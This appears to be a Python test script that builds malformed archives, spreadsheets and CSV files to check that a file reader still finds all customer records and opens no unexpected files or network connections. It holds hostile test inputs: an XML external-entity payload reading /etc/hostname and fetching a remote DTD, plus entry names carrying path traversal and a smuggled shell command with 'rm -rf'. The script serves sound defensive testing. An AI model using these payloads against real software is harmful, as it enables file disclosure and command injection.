#!/usr/bin/python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""cases.py - bad files that must be read all the same.

    cases.py [--only TEXT] [--write FILE]

Cases 46, 47, 51, 52 and 53 of the project's list of faults: archives whose
heads lie, entities that point outside, names made to hurt, wrong types. Each
holds 200 customers, all of whom must be found, and nothing may be opened or
connected to but what a plain upload opens (strace tells).
"""

import argparse
import os
import re
import struct
import subprocess
import sys
import tempfile

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
# pylint: disable=wrong-import-position
import making  # noqa: E402
import matrix  # noqa: E402
import reading  # noqa: E402
import tables  # noqa: E402
import write_sheets  # noqa: E402

CASES = []
COUNT = 200
MARK = "<!-- made by cases.py -->"
END = "<!-- end of cases.py -->"
JPEG = (b"\xff\xd8\xff\xe0\0\x10JFIF\0\1\1\0\0\1\0\1\0\0\xff\xdb\0\x43\0"
        + bytes(64) + b"\xff\xd9")


def case(number, name, media="application/octet-stream", file="q3.bin"):
    """Enter a writer: a Sheet in, bytes out."""
    def enter(write):
        CASES.append((number, name, media, file, write))
        return write
    return enter


def _plain(sheet, name="customers.csv"):
    return write_sheets.zipped([(name, write_sheets.as_csv(sheet))])


@case(46, "zip64 sizes that lie")
def zip64_lies(sheet):
    made = bytearray(making.CONTAINERS_BY["zip64"](
        write_sheets.as_csv(sheet), "c.csv"))
    for found in re.finditer(rb"\x01\x00\x10\x00", bytes(made)):
        struct.pack_into("<Q", made, found.end(), 1 << 62)
        break
    return bytes(made)


@case(46, "a wrong checksum")
def wrong_crc(sheet):
    made = bytearray(_plain(sheet))
    made[14] ^= 0xFF
    return bytes(made)


@case(46, "local and central name differ")
def two_names(sheet):
    made = _plain(sheet)
    at = made.rindex(b"customers.csv")
    return made[:at] + b"holidays.jpg1"[:13] + made[at + 13:]


@case(46, "no central directory")
def no_directory(sheet):
    made = _plain(sheet)
    return made[:made.index(b"PK\1\2")]


@case(46, "stored in stored")
def stored(sheet):
    import zipfile  # pylint: disable=import-outside-toplevel
    made = write_sheets.as_csv(sheet)
    for n in range(3):
        made = write_sheets.zipped([(f"{n}.bin", made)], n % 2 == 1,
                                   zipfile.ZIP_STORED)
    return made


ENTITY = (b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname"><!ENTITY '
          b'% p SYSTEM "http://203.0.113.66/x.dtd"> %p;]>')


def _entity(data, part):
    made = []
    for name, body in write_sheets.members(data):
        if name == part:
            at = body.index(b"?>") + 2
            body = body[:at] + ENTITY + body[at:].replace(
                b"</t></si>", b"&e;</t></si>", 1)
        made.append((name, body))
    return write_sheets.zipped(made)


@case(47, "xlsx with an external entity")
def xlsx_entity(sheet):
    return _entity(write_sheets.xlsx_openpyxl(sheet), "xl/sharedStrings.xml")


@case(47, "docx with an external entity")
def docx_entity(sheet):
    import write_papers  # pylint: disable=import-outside-toplevel
    return _entity(write_papers.docx_table(sheet), "word/document.xml")


NAMES = {
    "../../x": "../../../../../../tmp/x.csv", "64 kB": "a" * 60000,
    "newline and ESC": "a\n\x1b[31mb.csv", "shell": "$(id)`id`'; rm -rf x",
    "right to left": "\u202evsc.exe", "percent": "%s%n%n.csv",
    "control": "\x01\x02\x7f\x85.csv"}


def _named(title, name):
    @case(51, f"an entry named: {title}")
    def write(sheet):
        """A zip with that name."""
        return _plain(sheet, name)
    return write


for _title, _name in NAMES.items():
    _named(_title, _name)


@case(51, "an entry named: invalid UTF-8")
def bad_name(sheet):
    return _plain(sheet, "customers.csv").replace(b"customers.csv",
                                                  b"\xff\xfe\x80\xc3(rs.csv\0\n")


@case(52, "csv in UTF-16 without a mark")
def wide(sheet):
    return write_sheets.as_csv(sheet).decode().encode("utf-16-le")


@case(52, "csv behind a line of 8 MiB")
def long_line(sheet):
    return b"x" * (8 << 20) + b"\n" + write_sheets.as_csv(sheet)


@case(53, "zip named and declared as a picture", "image/jpeg", "photo.jpg")
def picture(sheet):
    return _plain(sheet)


@case(53, "xlsx declared as text", "text/plain", "notes.txt")
def notes(sheet):
    return write_sheets.xlsx_dates(sheet)


@case(53, "csv declared as zip", "application/zip", "q3.zip")
def no_zip(sheet):
    return write_sheets.as_csv(sheet)


@case(53, "a picture with a zip behind it", "image/jpeg", "photo.jpg")
def polyglot(sheet):
    return JPEG + _plain(sheet)


def opened(reader):
    """Files opened and sockets connected while a capture is read."""
    trace = reader.path("trace")
    subprocess.run(
        ["strace", "-f", "-qq", "-o", trace, "-e",
         "trace=open,openat,connect,creat,rename", reading.BINARY, "read",
         "-j", "1", "-q", "-k", reader.path("key"), "-R",
         reader.path("rules"), reader.path("cell.pcap")],
        capture_output=True, check=False, timeout=reading.SECONDS)
    with open(trace, encoding="utf-8", errors="replace") as file:
        return {re.sub(r"^\d+ +|\) += .*|/proc/\d+", "", line).strip()
                for line in file}


def judge(told, want, extra):
    """What is wrong, or None."""
    if told.people != want:
        return f"{len(told.people.keys() & want.keys())} of {len(want)} found"
    said = str(told.alerts)
    if re.search(r"[\x00-\x08\x0b-\x1f\x7f\x85\u202e]", said):
        return "a control sign in the alert"
    extra = {line for line in extra if "hostname" in line
             or "203.0.113" in line or "O_CREAT" in line}
    return f"opened {sorted(extra)[:2]}" if extra else None


def main():
    """The command line."""
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--only", default="")
    parser.add_argument("--write", help="page whose table is made anew")
    given = parser.parse_args()
    making.CONTAINERS_BY = {k.name: k.write for k in making.writers()[1]}
    sheet, rows = tables.sheet("english", COUNT), []
    with tempfile.TemporaryDirectory() as folder:
        reader = reading.Reader(folder)
        text = write_sheets.as_csv(sheet)
        want = reader.send("http", text, media="text/csv").people
        usual = opened(reader)
        for number, name, media, file, write in CASES:
            if given.only not in name:
                continue
            told = reader.send("smtp" if number == 53 else "http",
                               write(sheet), file, media)
            said = judge(told, want, opened(reader) - usual)
            rows.append((number, name, said))
            print(f"{'BAD ' if said else 'good'} {number} {name} "
                  f"{said or ''}", flush=True)
    if given.write:
        lines = [MARK, "", f"| case | file with {COUNT} customers | found |",
                 "| --: | --- | --- |"]
        lines += [f"| {number} | {name} | {said or 'all'} |"
                  for number, name, said in rows]
        matrix.replace_between(given.write, MARK, END, lines)
    return any(said for *_, said in rows)


if __name__ == "__main__":
    sys.exit(main())
